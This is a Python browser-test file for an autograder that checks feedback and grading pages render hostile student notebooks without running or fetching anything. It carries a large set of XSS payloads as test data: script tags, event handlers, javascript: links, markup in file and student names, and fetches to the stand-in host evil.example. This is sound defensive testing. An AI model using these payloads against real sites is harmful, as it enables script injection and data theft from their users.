"""A submission full of scripts, opened where people read it: nothing of it runs, and nothing is fetched for it.

The same attacks are first tried on a page without any protection, where they do run and fetch: the tests can fail.
"""

import base64
import json
import subprocess
import sys
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import quote, urlsplit

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from autograder.batch import grade_class
from autograder.feedback import write_feedback
from autograder.gradebook import open_gradebook
from tests.browser.conftest import jupyter_lab

pytestmark = [pytest.mark.browser, pytest.mark.hostile, pytest.mark.slow]
NAME = "a01_toy"
EVIL = "evil.example"
RUN = "window.top.__ran = document.title = 'ran'; alert(1)"
FETCH = f"https://{EVIL}/x"
NAMELESS = "<img src=x onerror=alert(1)>"
PIXEL = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode()

HTML = [
    f"<script>{RUN}</script>",
    f"<script src='{FETCH}.js'></script>",
    f'<img src="{FETCH}.png" onerror="{RUN}">',
    f'<img src=x onerror="{RUN}">',
    f'<body onload="{RUN}"><details open ontoggle="{RUN}">',
    f"<svg onload=\"{RUN}\"><image href='{FETCH}.svg'/><script>{RUN}</script></svg>",
    f'<math href="javascript:{RUN}"><mtext>x</mtext></math>',
    f"<iframe src='{FETCH}'></iframe><iframe srcdoc=\"<script>{RUN}</script>\"></iframe>",
    f"<object data='{FETCH}'></object><embed src='{FETCH}'><video src='{FETCH}' poster='{FETCH}'></video>",
    f"<meta http-equiv='refresh' content='0;url={FETCH}'>",
    f"<link rel='stylesheet' href='{FETCH}.css'><base href='https://{EVIL}/'>",
    f"<style>@import url('{FETCH}.css'); body {{ background: url({FETCH}.png) }}</style>",
    f'<div style="background: url({FETCH}.png)">x</div>',
    f'<a href="javascript:{RUN}" id="bait">click</a><a href=\'data:text/html,<script>{RUN}</script>\'>click</a>',
    f"</pre></code></textarea></title></style></script>--><script>{RUN}</script>",
    f'\'"><img src=x onerror="{RUN}">',
    f"<form action='{FETCH}'><input autofocus onfocus=\"{RUN}\"></form>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
]
MARKDOWN = [
    f'![alt "onerror={RUN}]({FETCH}.png \'x" onerror="{RUN}\')',
    f"![x][ref] [x][ref]\n\n[ref]: {FETCH}.png",
    "![x](attachment:x.svg) ![x](attachment:missing.png)",
    f"![x](data:image/svg+xml;base64,{PIXEL})",
    "[x](javascript:alert(1)) [x](JaVaScRiPt&#58;alert(1)) [x](java\tscript:alert(1)) <javascript:alert(1)>",
    f"[x](data:text/html;base64,{PIXEL})",
    "$\\href{javascript:alert(1)}{x}$ $$\\style{background: url(" + FETCH + ".png)}{x}$$",
    "$\\unicode{<img src=x onerror=alert(1)>}$ $\\require{html}\\cssId{score}{x}\\class{score}{y}$",
    "$<img src=x onerror=alert(1)>$ \\\\(<script>alert(1)</script>\\\\) \\begin{x}<script>alert(1)</script>\\end{x}",
    f'```mermaid\ngraph TD; A["<img src=\'{FETCH}.png\'>"]-->B; click A "javascript:alert(1)"\n```',
    f"```html\n<script>{RUN}</script>\n```",
    "\x1b[31mred\x1b[0m \u202egnp.exe\u2066 \x00\x07",
]
ATTACKS = HTML + MARKDOWN
HOSTILE = ("eve", "mallory", "trudy")


def attacked_outputs() -> list:
    """Everything an output may hold, for cells whose outputs are kept and for cells whose outputs are not."""
    html = "".join(HTML)
    mixed = {
        "text/html": html,
        "text/markdown": html,
        "text/latex": "$\\href{javascript:alert(1)}{x}$",
        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script></svg>",
        "application/javascript": RUN,
        "application/vnd.jupyter.widget-view+json": {"model_id": html},
        "text/plain": html,
    }
    return [
        new_output("display_data", data=mixed),
        new_output("display_data", data={"image/png": f'"><script>{RUN}</script>', "image/jpeg": f'" onerror="{RUN}'}),
        new_output("display_data", data={"image/png": PIXEL}, metadata={"image/png": {"width": f'1" onerror="{RUN}'}}),
        new_output("execute_result", data={"text/html": html}, execution_count=1),
        new_output("stream", name="stdout", text=html + "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07"),
        new_output("error", ename=html, evalue=html, traceback=[html]),
    ]


def hostile_answers() -> dict[str, str]:
    """Answers whose exceptions, values, names and prints are full of markup."""
    html = "".join(HTML)
    scale = f"HTML = {html!r}\nprint(HTML)\ndef scale(x, factor):\n    '''{HTML[3]}'''\n    raise ValueError(HTML)"
    total = f"Evil = type({HTML[3]!r}, (), {{'__repr__': lambda self: {html!r}}})\ndef total(x):\n    return Evil()"
    return {"scale": scale, "total": total}


def hostile_notebook(path) -> None:
    """Attacks in every part of the file that a student can write."""
    notebook = nbformat.read(path, as_version=4)
    for cell in notebook.cells:
        cell.metadata["tags"] = [HTML[0]]
        cell.metadata["name"] = HTML[3]
        if cell.cell_type == "code":
            cell.outputs = attacked_outputs()
    for number, attack in enumerate(ATTACKS):
        cell = new_markdown_cell(attack, id=f"markdown-{number}")
        cell.attachments = {"x.svg": {"image/svg+xml": PIXEL}, HTML[3]: {HTML[3]: PIXEL}}
        raw = new_raw_cell(attack, id=f"raw-{number}", metadata={"raw_mimetype": "text/html", "format": "text/html"})
        code = new_code_cell(f"%%html\n{attack}", id=f"html-{number}", outputs=attacked_outputs())
        notebook.cells += [cell, raw, code]
    stray = {"nbgrader": {"grade": True, "solution": True, "points": 9, "grade_id": HTML[3], "schema_version": 3}}
    notebook.cells.append(new_markdown_cell("stray", metadata=stray))
    notebook.cells.append(new_code_cell("1", metadata={"tags": ["explore"]}, outputs=attacked_outputs()))
    notebook.cells.append(new_code_cell(f"raise type({HTML[3]!r}, (Exception,), {{}})({''.join(HTML)!r})"))
    notebook.metadata["title"] = HTML[0]
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_name": HTML[0]}}}
    }
    path.write_text(json.dumps(notebook))


def old_notebook(path) -> None:
    """Format 3, whose cells and outputs are laid out otherwise."""
    cells = [
        {"cell_type": kind, "source": attack, "level": 1}
        for attack in ATTACKS
        for kind in ("markdown", "heading", "html")
    ]
    outputs = [
        {"output_type": "display_data", "html": HTML[0], "svg": HTML[5], "javascript": RUN, "png": HTML[3]},
        {"output_type": "pyout", "html": HTML[0], "text": HTML[0], "prompt_number": 1},
        {"output_type": "pyerr", "ename": HTML[0], "evalue": HTML[0], "traceback": [HTML[0]]},
    ]
    cells += [{"cell_type": "code", "input": "x = 1", "language": HTML[3], "outputs": outputs, "prompt_number": 1}]
    content = {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": HTML[3]}, "worksheets": [{"cells": cells}]}
    path.write_text(json.dumps(content))


@pytest.fixture
def attacked(released_toy, hand_in):
    """The toy course, graded, with hostile submissions by people with hostile names; one goes by such a name alone."""
    course = released_toy
    hostile_notebook(hand_in(course, NAMELESS, **hostile_answers()))
    hostile_notebook(hand_in(course, "eve", **hostile_answers()))
    old_notebook(hand_in(course, "mallory"))
    folder = hand_in(course, "trudy", **hostile_answers()).parent
    (folder / f"{NAME}.ipynb").rename(folder / "<img src=x onerror=alert(1)>.ipynb")
    (folder / "<script>alert(1)<").write_text(HTML[0])
    (folder / "index.html").write_text(HTML[0])
    with open_gradebook(course) as gradebook:
        for student in HOSTILE:
            gradebook.update_or_create_student(student, first_name=HTML[3], last_name=HTML[0], email=HTML[14])
    list(grade_class(course, NAME))
    return course


@contextmanager
def watched(chromium, home: str = ""):
    """A page whose requests, dialogs, console and canary are watched. What is not from `home` is noted and refused."""
    context = chromium.new_context(viewport={"width": 1400, "height": 900})
    page, strangers, ran = context.new_page(), [], []

    def look(route):
        address = route.request.url
        if home and address.startswith(f"{home}/"):
            route.continue_()
        else:
            strangers.append(address)
            route.abort()

    context.route("**/*", look)
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    page.on("popup", lambda popup: ran.append(f"opened {popup.url}"))
    try:
        yield page, strangers, ran
    finally:
        context.close()


def hosts(addresses: list[str]) -> set[str]:
    return {urlsplit(address).netloc for address in addresses}


def provoke(page) -> None:
    """Do what a reader may do by accident: move over things, focus them, follow every link that is no address."""
    page.evaluate(
        """() => document.querySelectorAll('*').forEach(one => {
            for (const kind of ['mouseover', 'focus', 'toggle', 'load', 'error'])
                if (!['SCRIPT', 'LINK', 'BODY', 'HTML', 'IMG'].includes(one.tagName)) one.dispatchEvent(new Event(kind))
            if (/^\\s*(javascript|data|vbscript):/i.test(one.getAttribute('href') || '')) one.click()
        })"""
    )
    page.wait_for_timeout(300)


def test_the_attacks_work_where_nothing_stops_them(chromium):
    with watched(chromium) as (page, strangers, ran):
        page.set_content(f"<!doctype html><title>t</title>{''.join(HTML[:9])}", wait_until="commit")
        page.wait_for_timeout(1000)
        assert ran and EVIL in hosts(strangers)


def test_feedback_pages_run_nothing_and_fetch_nothing(attacked, chromium):
    paths = write_feedback(attacked, NAME)
    assert len(paths) == 4
    for path in paths:
        with watched(chromium) as (page, strangers, ran):
            page.set_content(path.read_text(encoding="utf-8"))
            title = page.title()
            provoke(page)
            assert (strangers, ran, page.evaluate("window.__ran")) == ([], [], None)
            assert page.title() == title != "ran"
            tags = "script, iframe, svg, object, embed, link, base, form, video, math, [onerror], [onload]"
            assert page.locator(tags).count() == 0
            assert "alert(1)" in page.locator("body").inner_text(), "the attacks are there, as text"


def test_formgrader_runs_nothing_and_fetches_nothing_for_them(attacked, hand_in, chromium):
    """Compared with the pages of an honest student, formgrader asks for nothing more."""
    hand_in(attacked, "hopper")
    list(grade_class(attacked, NAME, ["hopper"]))
    with open_gradebook(attacked) as gradebook:
        notebooks = {one.student.id: one.id for one in gradebook.notebook_submissions(NAME, NAME)}
    overviews = ["manage_assignments", f"manage_submissions/{NAME}", f"gradebook/{NAME}/{NAME}", "manage_students"]
    overviews += [f"manage_students/{quote(one)}{rest}" for one in ("eve", NAMELESS) for rest in ("", f"/{NAME}")]
    asked, ran_at = {}, {}
    with jupyter_lab(attacked.root) as address:
        for student, view in [(name, f"submissions/{id}") for name, id in notebooks.items()] + [
            ("", v) for v in overviews
        ]:
            with watched(chromium, address) as (page, strangers, ran):
                answer = page.goto(f"{address}/formgrader/{view}", wait_until="load")
                assert answer.status == 200, view
                page.wait_for_timeout(1500)
                provoke(page)
                if page.evaluate("window.__ran || document.title == 'ran'"):
                    ran.append("canary")
                asked[student or view] = hosts(strangers)
                ran_at[student or view] = ran
                if student in (*HOSTILE, NAMELESS):
                    assert "alert(1)" in page.locator("body").inner_text()
                    assert page.locator("#notebook").locator("img, iframe, svg, video, object, style").count() == 0
    assert {view: ran for view, ran in ran_at.items() if ran} == {}
    assert not any(EVIL in found for found in asked.values())
    assert all(found <= asked["hopper"] for student, found in asked.items() if student in notebooks)


def test_jupyterlab_itself_runs_nothing_of_an_autograded_notebook(attacked, chromium):
    """Here MathJax is at hand, as it is for an instructor who is online. The hostile kernel never starts."""
    with jupyter_lab(attacked.root) as address, watched(chromium, address) as (page, strangers, ran):
        page.goto(f"{address}/lab/tree/autograded/eve/{NAME}/{NAME}.ipynb", wait_until="load")
        panel = page.locator(".jp-WindowedPanel-outer")
        panel.wait_for(timeout=90_000)
        page.locator(".jp-RenderedHTMLCommon").first.wait_for(timeout=60_000)
        for _ in range(40):  # it renders what comes into view
            panel.evaluate("one => one.scrollBy(0, 600)")
            page.wait_for_timeout(100)
        shown = page.locator(".jp-Notebook")
        assert "alert(1)" in shown.inner_text()
        assert shown.locator("mjx-container").count() + shown.locator(".MathJax").count() > 0, "formulas are set"
        assert (ran, page.evaluate("window.__ran || null")) == ([], None)
        assert EVIL not in hosts(strangers)


def test_nbgraders_own_feedback_runs_nothing_either(attacked, chromium):
    command = [str(Path(sys.executable).parent / "nbgrader"), "generate_feedback", NAME, "--force"]
    done = subprocess.run(command, cwd=attacked.root, capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == 0, done.stderr
    for student in (*HOSTILE, NAMELESS):
        content = (attacked.feedback / student / NAME / f"{NAME}.html").read_text(encoding="utf-8")
        with watched(chromium) as (page, strangers, ran):
            page.set_content(content, wait_until="commit")
            page.wait_for_timeout(1000)
            provoke(page)
            assert (ran, page.evaluate("window.__ran || null")) == ([], None)
            assert EVIL not in hosts(strangers)
            assert "alert(1)" in page.locator("body").inner_text()
